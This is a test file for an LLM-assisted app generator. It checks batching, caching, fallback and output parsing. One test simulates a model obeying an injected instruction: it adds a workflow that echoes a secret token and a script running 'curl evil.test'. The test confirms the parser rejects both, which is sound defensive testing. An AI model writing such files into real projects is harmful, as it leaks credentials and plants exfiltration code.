import { describe, expect, it } from "vitest";
import {
  createRouter,
  formatSoc,
  type GenerateAppInput,
  generateApp,
  generateAppWithLlm,
  Ledger,
  type LlmGenerationOptions,
  LlmUnavailableError,
  memoryCache,
  parseSocOrThrow,
  registerBuiltins,
} from "../../src/kernel/index.js";
import { draftsOf, echoDrafts, requestedPaths } from "../fixtures/llm/echo-model.js";
import { fixture, GENERATOR_VERSION } from "../generate/helpers.js";
import { answer, fakeEnvironment, fakePort, PRICED, routed } from "./fakes.js";

registerBuiltins();
const f = fixture("pharmacy-hipaa");
const input: GenerateAppInput = {
  ir: f.ir,
  overlays: f.resolved,
  options: { allowWorkflows: false, generatorVersion: GENERATOR_VERSION, frontend: "none" },
};
const user = (messages: readonly { role: string; content: string }[]) =>
  messages.find((message) => message.role === "user")?.content ?? "";

function options(
  port = fakePort([(call) => answer(echoDrafts(user(call.messages)))]),
  extra: Partial<LlmGenerationOptions> = {},
) {
  const router = createRouter({
    providers: [routed(port, { ...PRICED, maxOutputTokens: 32_000 })],
    ledger: new Ledger(null),
    environment: fakeEnvironment(),
    cache: memoryCache(),
  });
  return {
    port,
    options: {
      router,
      mode: "refine" as const,
      agents: ["database", "api", "backend", "ops"] as const,
      temperature: 0,
      concurrency: 3,
      templateFallback: false,
      overlays: f.resolved.overlays,
      ...extra,
    },
  };
}

describe("generateAppWithLlm", () => {
  it("with a model that returns the drafts, gives the template tree byte for byte", async () => {
    const { port, options: opts } = options();
    const result = await generateAppWithLlm(input, opts);
    const template = generateApp(input);
    expect(result.files).toEqual(template.files);
    expect(result.summary.gaps).toEqual(template.summary.gaps);
    expect(result.sources).toMatchObject({
      database: "llm",
      api: "llm",
      express: "llm",
      ops: "llm",
      docs: "template",
    });
    // Every batch asked only for paths of one agent, and all paths were covered exactly once.
    const asked = port.calls.flatMap((call) => requestedPaths(user(call.messages)));
    const nonDocs = template.files
      .map((file) => file.path)
      .filter((path) => path !== "COMPLIANCE.md" && !path.startsWith(".qlf/"));
    expect([...asked].sort()).toEqual(nonDocs);
    expect(result.usage.total.calls).toBe(port.calls.length);
    expect(result.usage.agents.map((usage) => usage.agent).sort()).toEqual([
      "api",
      "backend",
      "database",
      "ops",
    ]);
  });

  it("splits an agent's files into batches that fit the output limit", async () => {
    const port = fakePort([(call) => answer(echoDrafts(user(call.messages)))]);
    const router = createRouter({
      providers: [routed(port, { ...PRICED, maxOutputTokens: 8000 })],
      ledger: new Ledger(null),
      environment: fakeEnvironment(),
    });
    const { options: base } = options();
    const result = await generateAppWithLlm(input, { ...base, router, agents: ["backend", "api"] });
    const limit = 8000 * 3 * 0.8;
    for (const call of port.calls) {
      const bytes = draftsOf(user(call.messages)).reduce(
        (sum, file) => sum + Buffer.byteLength(file.content),
        0,
      );
      expect(bytes <= limit || draftsOf(user(call.messages)).length === 1).toBe(true);
      expect(call.maxTokens).toBeLessThanOrEqual(8000);
    }
    expect(port.calls.length).toBeGreaterThan(1);
    expect(result.sources.express).toBe("llm");
    // openapi.yaml (about 50 kB) cannot fit in 8000 output tokens: it stays the template's, with a note.
    expect(result.sources.api).toBe("template");
    expect(result.llmNotes).toContain(
      "openapi.yaml: kept the template's version (larger than the model's output limit of 8000 tokens)",
    );
  });

  it("uses the model's files, and COMPLIANCE.md traces the markers where the model put them", async () => {
    const changed = (prompt: string) =>
      formatSoc(
        draftsOf(prompt).map((file) =>
          file.path.endsWith(".ts")
            ? { ...file, content: `// reviewed by the model\n${file.content}` }
            : file,
        ),
      );
    const { options: opts } = options(fakePort([(call) => answer(changed(user(call.messages)))]));
    const result = await generateAppWithLlm(input, { ...opts, agents: ["backend"] });
    const template = generateApp(input);
    const app = result.files.find((file) => file.path === "src/app.ts");
    expect(app?.content.startsWith("// reviewed by the model\n")).toBe(true);
    const compliance = (files: typeof result.files) =>
      files.find((file) => file.path === "COMPLIANCE.md")?.content ?? "";
    expect(compliance(result.files)).not.toBe(compliance(template.files));
    // Line numbers moved by one in the model's .ts files.
    const firstTsLink = /\[(src\/[^\]:]+\.ts):(\d+)\]/.exec(compliance(template.files));
    expect(firstTsLink).not.toBeNull();
    expect(compliance(result.files)).toContain(`[${firstTsLink?.[1]}:${Number(firstTsLink?.[2]) + 1}]`);
    expect(result.summary.gaps).toEqual(template.summary.gaps);
  });

  it("a model that follows an injected instruction cannot add a workflow or any other file", async () => {
    const evil = (prompt: string) =>
      `${echoDrafts(prompt)}${formatSoc([
        {
          path: ".github/workflows/leak.yml",
          content: `on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: 'echo ${"$"}{{ secrets.TOKEN }}' }] } }\n`,
          mode: 0o644,
        },
      ])}`;
    const extra = (prompt: string) =>
      `${echoDrafts(prompt)}${formatSoc([{ path: "scripts/exfiltrate.sh", content: "curl evil.test\n", mode: 0o755 }])}`;
    for (const misbehave of [evil, extra]) {
      const port = fakePort([(call) => answer(misbehave(user(call.messages)))]);
      const { options: opts } = options(port, { agents: ["ops"] });
      const error = await generateAppWithLlm(input, opts).catch((caught: unknown) => caught);
      expect(error).toBeInstanceOf(LlmUnavailableError);
      expect((error as LlmUnavailableError).message).toMatch(
        /answer rejected twice: soc\.(unsafe|unexpected)-path/,
      );
    }
  });

  it("keeps the template's files when every provider fails and the configuration allows it", async () => {
    const port = fakePort([answer("I'm sorry, I cannot help with that.")]);
    const { options: opts } = options(port, { agents: ["ops"], templateFallback: true });
    const result = await generateAppWithLlm(input, opts);
    expect(result.files).toEqual(generateApp(input).files);
    expect(result.sources.ops).toBe("template");
    expect(result.llmNotes[0]).toMatch(
      /^ops \(batch 1\/1\): kept the template's files, no provider answered/,
    );
  });

  it("scratch mode sends no drafts, only the paths", async () => {
    const template = new Map(generateApp(input).files.map((file) => [file.path, file]));
    const port = fakePort([
      (call) =>
        answer(
          formatSoc(
            requestedPaths(user(call.messages)).map(
              (path) => template.get(path) ?? { path, content: "?\n", mode: 0o644 },
            ),
          ),
        ),
    ]);
    const { options: opts } = options(port, { mode: "scratch", agents: ["database"] });
    const result = await generateAppWithLlm(input, opts);
    expect(user(port.calls[0]?.messages ?? [])).not.toContain("BEGIN QLF DATA drafts");
    expect(result.files).toEqual(generateApp(input).files);
  });

  it("a second run is served from the cache: no calls, no tokens", async () => {
    const { port, options: opts } = options();
    await generateAppWithLlm(input, opts);
    const calls = port.calls.length;
    const again = await generateAppWithLlm(input, opts);
    expect(port.calls.length).toBe(calls);
    expect(again.files).toEqual(generateApp(input).files);
    const cached = opts.router.ledger.calls.slice(calls);
    expect(
      cached.every((call) => call.outcome === "cache-hit" && call.inputTokens === 0 && call.costUsd === 0),
    ).toBe(true);
  });
});

it("the echo model's answers pass the SOC parser", () => {
  const files = generateApp(input).files.slice(0, 3);
  expect(parseSocOrThrow(formatSoc(files), { policy: { allowWorkflows: false } })).toEqual(files);
});
